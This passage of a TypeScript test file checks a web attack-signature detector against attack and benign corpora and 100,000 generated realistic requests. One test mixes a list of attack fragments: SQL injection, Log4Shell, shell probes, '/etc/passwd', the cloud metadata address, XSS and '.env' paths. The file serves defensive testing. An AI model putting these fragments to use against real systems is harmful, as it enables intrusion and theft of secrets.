// Signatures: every attack in the corpus is found with its category, the benign corpus and 100,000 generated
// realistic requests produce no hit at all, config rules compile or fail with their key, and work stays bounded.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { percentDecodeOnce, decodeEntities, lookupView, normalize, shellView, sqlView, stdView, urlDecode } from '../src/analysis/normalize.ts';
import { BUILTIN_RULES, CATEGORIES } from '../src/analysis/rules.ts';
import { compileSignatures, signalsFor, SignatureRuleError, type Hit, type Signatures, type UserRule } from '../src/analysis/signatures.ts';
import type { RequestEvent } from '../src/analysis/types.ts';

// ---------------------------------------------------------------- corpus format

const FIXTURES = new URL('./fixtures/analysis/', import.meta.url);
const UNESCAPE: Readonly<Record<string, string>> = { '\\': '\\', t: '\t', n: '\n', r: '\r' };
const unescape = (s: string): string => s.replace(/\\([\\tnr])/g, (_m, c: string) => UNESCAPE[c]!);

function event(method: string, target: string, headers: readonly string[] = [], body?: string | Buffer, source = '203.0.113.7'): RequestEvent {
  const q = target.indexOf('?');
  const buf = body === undefined ? undefined : typeof body === 'string' ? Buffer.from(body) : body;
  return {
    at: 1_700_000_000_000,
    route: 'api',
    endpoint: `${method} /x`,
    method,
    path: q < 0 ? target : target.slice(0, q),
    query: q < 0 ? '' : target.slice(q + 1),
    source,
    headers,
    ...(buf !== undefined ? { body: buf } : {}),
    bodyBytes: buf?.length ?? 0,
    upstream: 'primary',
    status: 200,
    latencyMs: 3,
  };
}

interface CorpusLine {
  readonly line: number;
  readonly category: string;
  readonly e: RequestEvent;
}

/** `[category TAB] METHOD TAB target TAB headers TAB body`; headers are `name: value` joined by \n; `-` is empty. */
function loadCorpus(file: string, withCategory: boolean): CorpusLine[] {
  const out: CorpusLine[] = [];
  readFileSync(new URL(file, FIXTURES), 'utf8')
    .split('\n')
    .forEach((text, i) => {
      if (text === '' || text.startsWith('#')) return;
      const fields = text.split('\t');
      assert.equal(fields.length, withCategory ? 5 : 4, `${file}:${i + 1}: expected ${withCategory ? 5 : 4} fields`);
      const [category, method, target, h, b] = withCategory ? fields : ['benign', ...fields];
      const headers: string[] = [];
      if (h !== '-') {
        for (const entry of unescape(h!).split('\n')) {
          const colon = entry.indexOf(':');
          headers.push(entry.slice(0, colon).trim().toLowerCase(), entry.slice(colon + 1).trim());
        }
      }
      out.push({ line: i + 1, category: category!, e: event(method!, target!, headers, b === '-' ? undefined : unescape(b!)) });
    });
  return out;
}

const describeHits = (hits: readonly Hit[]): string => hits.map((h) => `${h.rule.id}@${h.part}${h.name ? `:${h.name}` : ''} "${h.text}"`).join(', ');

// ---------------------------------------------------------------- a generator of realistic benign traffic

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0',
];
const CLIENTS = [
  'curl/8.7.1',
  'curl/7.81.0',
  'python-requests/2.31.0',
  'python-httpx/0.27.0',
  'Python/3.12 aiohttp/3.9.5',
  'Go-http-client/1.1',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'axios/1.6.8',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'node',
  'undici',
  'PostmanRuntime/7.37.3',
  'insomnia/8.6.1',
  'Apache-HttpClient/4.5.14 (Java/17.0.10)',
  'Java/17.0.2',
  'Wget/1.21.4',
  'libwww-perl/6.76',
  'Faraday v2.9.0',
  'Dart/3.3 (dart:io)',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
  'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
  'kube-probe/1.29',
  'ELB-HealthChecker/2.0',
  'Prometheus/2.51.0',
  'Datadog Agent/7.52.0',
  'Stripe/1.0 (+https://stripe.com/docs/webhooks)',
  'GitHub-Hookshot/4f3c2a1',
  'Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
  'Amazon CloudFront',
  'MyApp/3.4.1 (iPhone; iOS 17.4; Scale/3.00)',
  'Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230901.001)',
];
const FIRST = ['Ann', 'Bob', 'Chloé', 'José', 'Zoë', 'Siobhán', 'Seán', 'Renée', 'Mary-Jane', 'Jean-Luc', 'Wei', 'Aarav', 'Fatima', 'Olúwaseun', 'Björn', 'Łukasz', 'Ngozi', 'Dmitri', 'Ana María', 'Kai'];
const LAST = ["O'Brien", "O'Neil", "D'Angelo", "Dell'Acqua", "N'Diaye", 'McDonald', 'van der Berg', 'St. John', 'Smith', 'García', 'Müller', 'Nguyen', "O'Connor-Smith", 'Al-Hassan', 'Ó Sé', "D'Souza", "L'Estrange", 'Kowalski', '李', 'Sánchez'];
const SEARCHES = [
  '"best pizza" near me',
  "it's a wonderful life",
  "don't stop believin'",
  "rock 'n' roll",
  '"machine learning" OR "deep learning"',
  'title:"star wars" AND year:1977',
  'status:open AND (label:"bug" OR label:"needs triage")',
  'c++ vs c#',
  'how to use "select" in html',
  'union station chicago',
  'select comfort mattress',
  'drop shipping suppliers',
  'order by price',
  '"O\'Reilly" books',
  '5 > 3',
  'a < b',
  '100% cotton',
  'tom & jerry',
  'R&D budget 2024',
  'AT&T plans',
  '50% off; free shipping',
  '$100 gift card',
  '#blacklivesmatter',
  '@username',
  "what's new in node 20?",
  '1+1=2',
  'x = y + 2',
  'sleep apnea',
  'sleep 8 hours a night',
  'JavaScript: The Good Parts',
  'java script tutorial',
  'alert dialog design',
  'cat /dev/null meaning',
  'where is \'union square\'',
  'Mötley Crüe',
  '東京 ラーメン',
  'naïve café',
  'e=mc^2',
  '(555) 123-4567',
  'ETA 10:30',
  '--help',
  '-- dashes --',
  "'quoted'",
  '"double"',
  "it's 5 o'clock somewhere",
  'o\'reilly\'s "head first" series',
  'cats; dogs',
  'pros | cons',
  'a || b',
  'yes && no',
  '$HOME path',
  '${name} placeholder',
  'price: $5–$10',
  'a+b@example.com',
  'where to buy a drop-in replacement',
  'table tennis tables for sale',
  'insert coin',
  'update iphone',
  'delete account',
  'exec summary template',
  'ping pong',
  'curl up with a book',
  'shell company',
  'bash birthday party',
  'system of a down',
  'eval of performance',
  'window cleaning',
  'document scanner',
  'metadata standards',
  'latest news',
  'file taxes online',
  'etc etc',
  'home sweet home',
  'root vegetables',
  'net worth',
  'dir en grey',
  'type 2 diabetes',
  'id card renewal',
  'who am i',
  'sleeping bag -20°C',
  'the "or" operator',
  'and/or',
  '"a" and "b" are letters',
  "Tom's \"best\" deal -- today only",
];
const TEXTS = [
  "## Summary\n\nThis PR fixes the **login** bug reported by O'Brien.\n\n- [x] tests\n- [ ] docs\n\nSee [issue #42](https://github.com/example/app/issues/42) and `src/auth.ts`.",
  "Thanks! I've tried it & it works :) — but the *date picker* shows 2024-05-01 instead of 05/01/2024.",
  '> "Simplicity is prerequisite for reliability." — Dijkstra\n\nAgreed 100%.',
  "Steps:\n1. Open settings\n2. Click \"Save\"\n3. See error: `Cannot read properties of undefined (reading 'id')`",
  '```json\n{"id": 1, "name": "O\'Brien", "tags": ["a", "b"]}\n```',
  'Use `npm install --save-dev typescript` and then `npx tsc --init`.',
  '| Plan | Price |\n|------|-------|\n| Basic | $5/mo |\n| Pro | $15/mo |',
  '| id | name | email |\n|----|------|-------|\n| 1 | Ann | ann@example.com |',
  'Meeting notes: union reps & management agreed; next steps — select a vendor from the shortlist, drop the old contract.',
  'I\'d rate it 4/5. Pros: fast, cheap. Cons: the "order by" dropdown doesn\'t remember my choice.',
  'Great product!!! 5/5 would buy again :)',
  "Don't forget: the meeting's at 3pm (not 2pm); bring the Q3 report & slides.",
  '&lt;p&gt;Hello &amp; welcome to O&#39;Brien&#39;s shop&lt;/p&gt;',
  'Tom &amp; Jerry &lt;3',
  '&quot;Quoted&quot; text with &amp;amp; double-escaped',
  '5 &gt; 3 &amp;&amp; 2 &lt; 4',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;',
  'It&#x27;s &#8220;smart&#8221; quotes',
  '<p>Hello <b>world</b>!</p><p><a href="https://example.com/docs?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">docs</a></p>',
  '<img src="https://cdn.example.com/img/42.png" alt="O\'Brien at the lake" loading="lazy" width="640">',
  '<ul><li>One</li><li>Two &amp; three</li></ul><blockquote>Quote</blockquote>',
  'Visit https://example.com/path?x=1&y=2 or email support@example.com.',
  'Call me at +1 (555) 010-9999 or +44 20 7946 0958.',
  'Price dropped from $120 to $99.99 (-17%)!',
  'The formula is =SUM(A1:A10) / COUNT(B1:B10)',
  'if (a < b && c > d) { return x; }',
  'const url = `${base}/users/${id}`; // template literal',
  'SELECT is my favourite keyword in HTML forms; the <select> element holds <option>s.',
  'Please select a size from the list below.',
  'Ordered 2; delete from cart later',
  'We sleep (8 hours) and eat well.',
  'Use ../images/logo.png in the README.',
  'Path: C:\\Users\\ann\\Documents\\report.docx',
  'Windows path D:\\Projects\\app\\src',
  'Line one\nLine two\nid\nname\nemail',
  'Bullet list:\n- cats\n- dogs\n- `ls` and `pwd` are commands',
  "He said 'no' -- and left.",
  'Fixed in v2.3.1 (see CHANGELOG.md#231).',
  'Emoji test 😀🎉 ✓ — done',
  'Ünïcödé ﬁ ligature and ｆｕｌｌｗｉｄｔｈ text',
  'Temperature: 21°C / 70°F; humidity 40%',
  'The ratio is 3:2 and the time is 10:45:00.',
  'Tags: #release #v2 @team',
  'Run the job at 0 3 * * * (cron)',
  'Set HOME=/home/ann; PATH=/usr/local/bin:/usr/bin',
  'A || B && !C',
  'email ann.o\'brien@example.ie about "Q2 union dues"',
  'Java is to JavaScript what car is to carpet.',
  'The alert(s) fired 3 times; see the runbook.',
  'Kids aged 5 or 6 are welcome.',
];
const DOMAINS = ['example.com', 'www.example.org', 'app.example.com', 'shop.example.net', 'docs.example.io', 'news.ycombinator.com', 'www.google.com', 'github.com', 't.co'];
const PAGES = ['/', '/products', '/products/shoes', '/cart', '/checkout', '/blog/2024/05/it-s-here', '/about', '/help/faq', '/account/settings', '/search', '/docs/getting-started', '/pricing'];
const RESOURCES = ['users', 'orders', 'products', 'invoices', 'comments', 'projects', 'teams', 'events', 'files', 'webhooks'];
const STATIC = ['/static/js/main.3f2a1b9c.js', '/static/css/app.8c1d.css', '/images/logo@2x.png', '/favicon.ico', '/robots.txt', '/sitemap.xml', '/fonts/Inter-Regular.woff2', '/.well-known/openid-configuration', '/manifest.webmanifest'];

class Gen {
  private readonly r: () => number;
  constructor(seed: number) {
    this.r = mulberry32(seed);
  }
  int(n: number): number {
    return Math.floor(this.r() * n);
  }
  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)]!;
  }
  chance(p: number): boolean {
    return this.r() < p;
  }
  hex(n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[this.int(16)];
    return s;
  }
  b64(n: number, url = false): string {
    const alphabet = url ? 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_' : 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[this.int(64)];
    return url ? s : s + '='.repeat(this.int(3));
  }
  uuid(): string {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-${this.pick(['8', '9', 'a', 'b'])}${this.hex(3)}-${this.hex(12)}`;
  }
  jwt(): string {
    return `eyJ${this.b64(33, true)}.eyJ${this.b64(60 + this.int(80), true)}.${this.b64(43, true)}`;
  }
  date(): string {
    const d = new Date(1_600_000_000_000 + this.int(200_000_000) * 1000);
    return this.chance(0.5) ? d.toISOString() : d.toISOString().slice(0, 10);
  }
  name(): string {
    return `${this.pick(FIRST)} ${this.pick(LAST)}`;
  }
  email(): string {
    return `${this.pick(['ann', 'bob', 'j.obrien', 'mary+test', 'x_y', 'dev'])}${this.int(100)}@${this.pick(['example.com', 'mail.example.org', 'corp.example.io'])}`;
  }
  url(): string {
    const path = this.pick(['', '/x', '/path/to/page', '/oauth/callback', '/a/b/c.html', '/search']);
    const q = this.chance(0.4) ? `?ref=${this.hex(6)}&utm_source=${this.pick(['newsletter', 'twitter', 'google'])}` : '';
    return `https://${this.pick(DOMAINS)}${path}${q}`;
  }
  ip(): string {
    return `${this.pick([203, 198, 192, 10, 172, 100])}.${this.int(256)}.${this.int(256)}.${1 + this.int(254)}`;
  }
  text(): string {
    return this.pick(TEXTS);
  }
  /** a query value the way clients encode it: encodeURIComponent, or form style with `+`, or raw when safe */
  enc(v: string): string {
    const e = encodeURIComponent(v);
    return this.chance(0.3) ? e.replace(/%20/g, '+') : e;
  }
  cookie(): string {
    const parts = [`_ga=GA1.2.${this.int(1e9)}.${this.int(1e9)}`, `session_id=${this.hex(32)}`, `theme=${this.pick(['dark', 'light'])}`, `lang=${this.pick(['en-US', 'fr-FR', 'de'])}`];
    if (this.chance(0.3)) parts.push(`consent=${encodeURIComponent(JSON.stringify({ analytics: this.chance(0.5), ads: false }))}`);
    if (this.chance(0.2)) parts.push(`cart=${encodeURIComponent(JSON.stringify([{ id: this.int(100), qty: 1 + this.int(3) }]))}`);
    return parts.join('; ');
  }
  headers(browser: boolean, extra: Record<string, string> = {}): string[] {
    const h: string[] = ['user-agent', browser ? this.pick(BROWSERS) : this.pick(CLIENTS)];
    if (browser && this.chance(0.7)) h.push('referer', this.chance(0.3) ? `https://www.google.com/search?q=${this.enc(this.pick(SEARCHES))}` : this.url());
    if (browser && this.chance(0.6)) h.push('cookie', this.cookie());
    if (!browser && this.chance(0.6)) h.push('authorization', this.pick([`Bearer ${this.jwt()}`, `Basic ${this.b64(20)}`, `Token ${this.hex(40)}`]));
    if (this.chance(0.2)) h.push('x-forwarded-for', `${this.ip()}, ${this.ip()}`);
    for (const [k, v] of Object.entries(extra)) h.push(k, v);
    return h;
  }
  jsonBody(): Record<string, unknown> {
    const kind = this.int(8);
    switch (kind) {
      case 0:
        return { name: this.name(), email: this.email(), bio: this.text(), website: this.url(), birthday: this.date().slice(0, 10) };
      case 1:
        return { title: this.pick(SEARCHES), body: this.text(), tags: [this.pick(['bug', 'ui', 'api']), this.pick(['p1', 'p2'])], draft: this.chance(0.5) };
      case 2:
        return { items: [{ sku: `SKU-${this.hex(6)}`, qty: 1 + this.int(5), price: this.int(10000) / 100 }], coupon: this.chance(0.3) ? 'SAVE10' : null, note: this.text(), shipping: { name: this.name(), street: `${this.int(999)} O'Connell St.`, city: 'Saint-Étienne', zip: '42000' } };
      case 3:
        return { query: 'query GetUser($id: ID!) { user(id: $id) { id name email posts(first: 10) { edges { node { id title } } } } }', variables: { id: this.uuid() }, operationName: 'GetUser' };
      case 4:
        return { event: this.pick(['page_view', 'click', 'signup']), ts: this.date(), props: { path: this.pick(PAGES), referrer: this.url(), title: `${this.pick(SEARCHES)} | Example` } };
      case 5:
        return { username: this.email(), password: `${this.b64(10)}!${this.pick(['&', '#', '$', '%', "'", '"', ';', '|'])}${this.int(100)}`, remember: true };
      case 6:
        return { html: this.pick(TEXTS.filter((t) => t.includes('<') || t.includes('&'))), format: 'html' };
      default:
        return { id: this.uuid(), token: this.b64(40), updated_at: this.date(), filter: { price: { $gte: this.int(50), $lte: 50 + this.int(500) }, status: ['active', 'pending'] } };
    }
  }
  request(): RequestEvent {
    const kind = this.int(20);
    switch (kind) {
      case 0:
      case 1: {
        const q = this.chance(0.5) ? `?utm_source=${this.pick(['newsletter', 'twitter'])}&utm_campaign=${this.enc(this.pick(SEARCHES))}` : '';
        return event('GET', `${this.pick(PAGES)}${q}`, this.headers(true));
      }
      case 2:
        return event('GET', `/search?q=${this.enc(this.pick(SEARCHES))}&page=${1 + this.int(9)}`, this.headers(true));
      case 3: {
        const res = this.pick(RESOURCES);
        const q = `page=${1 + this.int(50)}&per_page=${this.pick([10, 25, 100])}&sort=${this.pick(['-created_at', 'name', 'updated_at'])}&filter[status]=active&fields=id,name,email&q=${this.enc(this.pick(SEARCHES))}`;
        return event('GET', `/api/v1/${res}?${q}`, this.headers(false));
      }
      case 4:
        return event('GET', `/api/v1/${this.pick(RESOURCES)}/${this.uuid()}`, this.headers(false));
      case 5:
      case 6:
        return event(this.pick(['POST', 'PUT', 'PATCH']), `/api/v1/${this.pick(RESOURCES)}${this.chance(0.5) ? `/${this.uuid()}` : ''}`, this.headers(false, { 'content-type': 'application/json' }), JSON.stringify(this.jsonBody()));
      case 7:
        return event('DELETE', `/api/v1/${this.pick(RESOURCES)}/${this.int(100000)}`, this.headers(false));
      case 8: {
        const next = this.pick(['/dashboard', this.url(), '/settings?tab=billing']);
        const body = `username=${this.enc(this.email())}&password=${this.enc(`${this.b64(8)}${this.pick(["'", '"', '&', ';', '#', '<', '>'])}${this.int(99)}`)}&remember=on&next=${this.enc(next)}`;
        return event('POST', '/login', this.headers(true, { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://app.example.com' }), body);
      }
      case 9: {
        const q = `response_type=code&client_id=${this.hex(16)}&redirect_uri=${this.enc('https://app.example.com/oauth/callback')}&scope=${this.enc('openid profile email')}&state=${this.b64(22, true)}&nonce=${this.hex(16)}`;
        return event('GET', `/oauth/authorize?${q}`, this.headers(true));
      }
      case 10: {
        const raw = this.chance(0.5);
        const next = this.url();
        return event('GET', `/login?next=${raw ? next : encodeURIComponent(next)}&return_to=${encodeURIComponent('/account/settings#billing')}`, this.headers(true));
      }
      case 11: {
        const boundary = `----WebKitFormBoundary${this.b64(16, true)}`;
        const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(Array.from({ length: 512 }, () => this.int(256)))]);
        const body = Buffer.concat([
          Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n${this.pick(SEARCHES)}\r\n--${boundary}\r\nContent-Disposition: form-data; name="description"\r\n\r\n${this.text()}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${this.pick(["photo (1).png", "O'Brien's cat.png", 'IMG_2024-05-01.png', 'résumé.png'])}"\r\nContent-Type: image/png\r\n\r\n`),
          png,
          Buffer.from(`\r\n--${boundary}--\r\n`),
        ]);
        return event('POST', '/api/v1/files', this.headers(true, { 'content-type': `multipart/form-data; boundary=${boundary}` }), body);
      }
      case 12:
        return event('POST', '/webhooks/stripe', ['user-agent', 'Stripe/1.0 (+https://stripe.com/docs/webhooks)', 'content-type', 'application/json; charset=utf-8'], JSON.stringify({ id: `evt_${this.b64(24, true)}`, type: 'invoice.paid', data: { object: { customer_name: this.name(), description: this.text(), amount_paid: this.int(10000) } } }));
      case 13:
        return event('GET', this.pick(STATIC), this.headers(true));
      case 14:
        return event('GET', this.pick(['/healthz', '/readyz', '/metrics', '/status']), ['user-agent', this.pick(['kube-probe/1.29', 'ELB-HealthChecker/2.0', 'Prometheus/2.51.0'])]);
      case 15: {
        const q = `v=1&tid=UA-${this.int(99999)}-1&cid=${this.uuid()}&t=pageview&dl=${this.enc(this.url())}&dt=${this.enc(`${this.pick(SEARCHES)} — "Example" Shop`)}&sr=1920x1080&ul=en-us`;
        return event('GET', `/collect?${q}`, this.headers(true));
      }
      case 16:
        return event('POST', '/api/v1/notes', this.headers(false, { 'content-type': 'text/plain; charset=utf-8' }), this.text());
      case 17:
        return event('POST', '/soap/orders', this.headers(false, { 'content-type': 'text/xml; charset=utf-8' }), `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><Id>${this.int(1e6)}</Id><Customer>${this.name().replace(/'/g, '&apos;')}</Customer></GetOrder></soap:Body></soap:Envelope>`);
      case 18:
        return event(this.pick(['OPTIONS', 'HEAD']), `/api/v1/${this.pick(RESOURCES)}`, this.headers(true, { origin: `https://${this.pick(DOMAINS)}` }));
      default: {
        const q = `date_from=${this.date()}&date_to=${this.enc(this.date())}&ids[]=${this.int(100)}&ids[]=${this.int(100)}&cursor=${this.b64(24)}&expand=${this.enc('author,comments.author')}&tz=${this.enc('Europe/Paris')}&filter=${this.enc(JSON.stringify({ name: this.name(), tags: [this.pick(SEARCHES)] }))}`;
        return event('GET', `/api/v2/${this.pick(RESOURCES)}?${q}`, this.headers(false));
      }
    }
  }
}

// ---------------------------------------------------------------- the tests

const sig = compileSignatures();

/** µs per request: the best of several rounds (the machine may be busy: a diagnostic, never an assertion). */
function bestOf(rounds: number, events: readonly RequestEvent[]): number {
  let best = Infinity;
  for (let r = 0; r < rounds; r++) {
    const start = performance.now();
    for (const e of events) sig.match(e);
    best = Math.min(best, ((performance.now() - start) * 1000) / events.length);
  }
  return best;
}

void describe('signatures: attack corpus', () => {
  const attacks = loadCorpus('attacks.txt', true);

  void it('has at least 5 payloads for every category', () => {
    for (const c of CATEGORIES.filter((x) => x !== 'custom')) {
      assert.ok(attacks.filter((a) => a.category === c).length >= 5, `category ${c} has fewer than 5 attack lines`);
    }
  });

  void it('detects every line with a rule of its category', () => {
    const misses: string[] = [];
    for (const a of attacks) {
      const hits = sig.match(a.e);
      if (!hits.some((h) => h.rule.category === a.category)) misses.push(`attacks.txt:${a.line} (${a.category}) got [${describeHits(hits)}]`);
    }
    assert.deepEqual(misses, []);
  });

  void it('finds the same hits with and without the literal prefilter (every needle is necessary)', () => {
    const plain = compileSignatures({ prefilter: false });
    for (const a of attacks) {
      const ids = (s: Signatures): string => s.match(a.e).map((h) => h.rule.id).sort().join(',');
      assert.equal(ids(sig), ids(plain), `attacks.txt:${a.line}`);
    }
  });

  void it('finds the same hits with and without the prefilter on random mixes of attack fragments and encodings', () => {
    const plain = compileSignatures({ prefilter: false });
    const r = mulberry32(987);
    const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
    const FRAGMENTS = ["'", '"', ' ', '=', '&', ';', '|', '`', '$(', '${', '}', '{', '(', ')', '<', '>', '/', '\\', '..', '../', '#', '--', '/*', '*/', '/*!50000', '%27', '%2527', '%22', '%3c', '%2f', '%5c', '%0a', '%00', '%c0%af', '%u0027', '&#39;', '&#x3c;', '&colon;', '+', 'or', 'and', '1', '1=1', "'1'='1", 'union', 'select', 'sleep(5)', 'from', 'script', 'onerror', 'alert(1)', 'javascript:', 'jndi:', 'ldap://', 'lower:j', '::-j', 'id', 'whoami', 'cat', '/etc/passwd', 'ls -la', 'ifs', 'bin/sh', '169.254.169.254', '0xa9fea9fe', 'metadata', 'http://', 'gopher://', 'php://', 'sqlmap', "w'h'o", 'name', "O'Brien", 'é', '＜', '\u2215', 'on', 'load', 'information_schema', '@@version', 'order by 3', 'xp_cmdshell', '{{', 'constructor', 'document.cookie', 'system(', '<?php', '%{(#', 'class.module.classloader', 'web-inf', '.git/', '.env'];
    const text = (n: number): string => Array.from({ length: n }, () => pick(FRAGMENTS)).join('');
    const found: string[] = [];
    for (let i = 0; i < 1500; i++) {
      const query = Array.from({ length: 1 + Math.floor(r() * 3) }, () => `${text(1)}=${text(1 + Math.floor(r() * 6))}`).join('&');
      const kind = Math.floor(r() * 4);
      const body = kind === 0 ? JSON.stringify({ [text(1)]: text(1 + Math.floor(r() * 6)), b: [text(3)] }) : kind === 1 ? `${text(1)}=${text(5)}&x=${text(3)}` : text(8);
      const type = ['application/json', 'application/x-www-form-urlencoded', 'text/plain', ''][kind]!;
      const e = event(pick(['GET', 'POST', 'TRACE']), `/${text(3)}?${query}`, ['user-agent', text(5), 'referer', text(4), 'cookie', text(3), ...(type ? ['content-type', type] : [])], body);
      const ids = (x: Signatures): string => x.match(e).map((h) => h.rule.id).sort().join(',');
      if (ids(sig) !== ids(plain)) found.push(`${e.path}?${e.query} ${body}: ${ids(sig)} ≠ ${ids(plain)}`);
    }
    assert.deepEqual(found, []);
  });

  void it('uses every built-in rule at least once', () => {
    const used = new Set<string>();
    for (const a of attacks) for (const h of sig.match(a.e)) used.add(h.rule.id);
    assert.deepEqual(BUILTIN_RULES.map((r) => r.id).filter((id) => !used.has(id)), []);
  });

  void it('costs little per attack request (diagnostic)', (t) => {
    const us = bestOf(5, attacks.map((a) => a.e));
    t.diagnostic(`attack requests: ${us.toFixed(1)} µs per request (${attacks.length} payloads, best of 5 rounds)`);
  });
});

void describe('signatures: benign traffic', () => {
  void it('finds nothing in the benign corpus (at least 300 lines), with or without the prefilter', () => {
    const benign = loadCorpus('benign.txt', false);
    assert.ok(benign.length >= 300, `benign.txt has ${benign.length} lines`);
    const plain = compileSignatures({ prefilter: false });
    const found: string[] = [];
    for (const b of benign) {
      const hits = plain.match(b.e);
      if (hits.length > 0) found.push(`benign.txt:${b.line} [${describeHits(hits)}]`);
      assert.equal(sig.match(b.e).length, hits.length);
    }
    assert.deepEqual(found, []);
  });

  void it('finds nothing in 100,000 generated realistic requests, and costs a few µs each (diagnostic)', (t) => {
    const gen = new Gen(20240501);
    const events = Array.from({ length: 100_000 }, () => gen.request());
    const found: string[] = [];
    for (const e of events) {
      const hits = sig.match(e);
      if (hits.length > 0 && found.length < 20) found.push(`${e.method} ${e.path}?${e.query.slice(0, 120)} [${describeHits(hits)}]`);
    }
    assert.deepEqual(found, []);
    const us = bestOf(3, events.slice(0, 20_000));
    t.diagnostic(`benign requests: ${us.toFixed(1)} µs per request (20,000 of them, best of 3 rounds)`);
    const simple = event('GET', '/products?page=2&sort=price', ['user-agent', BROWSERS[0]!, 'referer', 'https://www.example.org/', 'cookie', 'theme=dark; lang=en-US']);
    t.diagnostic(`a browser GET with a query, referer and cookie: ${bestOf(5, Array.from({ length: 2000 }, () => simple)).toFixed(1)} µs`);
  });

  void it('leaves ordinary clients alone: curl, python-requests, Go, wget and bots are not scanners', () => {
    for (const ua of CLIENTS) assert.deepEqual(sig.match(event('GET', '/', ['user-agent', ua])), [], ua);
    for (const ua of BROWSERS) assert.deepEqual(sig.match(event('GET', '/', ['user-agent', ua])), [], ua);
  });

  void it('leaves common methods alone and flags unusual ones with low severity', () => {
    for (const m of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS']) assert.deepEqual(sig.match(event(m, '/')), [], m);
    for (const m of ['TRACE', 'TRACK', 'DEBUG', 'PROPFIND', 'CONNECT', 'PURGE']) {
      const hits = sig.match(event(m, '/'));
      assert.equal(hits.length, 1, m);
      assert.equal(hits[0]!.rule.category, 'method');
      assert.equal(hits[0]!.rule.severity, 'low');
    }
  });
});

void describe('signatures: config rules', () => {
  const rule = (over: Partial<UserRule> & Record<string, unknown> = {}): UserRule => ({ id: 'acme-debug', parts: ['query'], pattern: 'debug_mode=on', ...over });
  const thrown = (opts: Parameters<typeof compileSignatures>[0]): SignatureRuleError => {
    try {
      compileSignatures(opts);
    } catch (err) {
      assert.ok(err instanceof SignatureRuleError, String(err));
      return err;
    }
    assert.fail('expected a SignatureRuleError');
  };

  void it('compile and match case-insensitively on the parts they name, with defaults', () => {
    const s = compileSignatures({ rules: [rule({ pattern: 'DEBUG_MODE\\s*=\\s*on' }), rule({ id: 'acme-header', parts: ['header:X-Forwarded-For'], pattern: '^10\\.66\\.', severity: 'high', category: 'ssrf', description: 'internal hop' })] });
    const hits = s.match(event('GET', '/x?a=1&Debug_Mode=ON'));
    assert.equal(hits.length, 1);
    assert.equal(hits[0]!.rule.id, 'acme-debug');
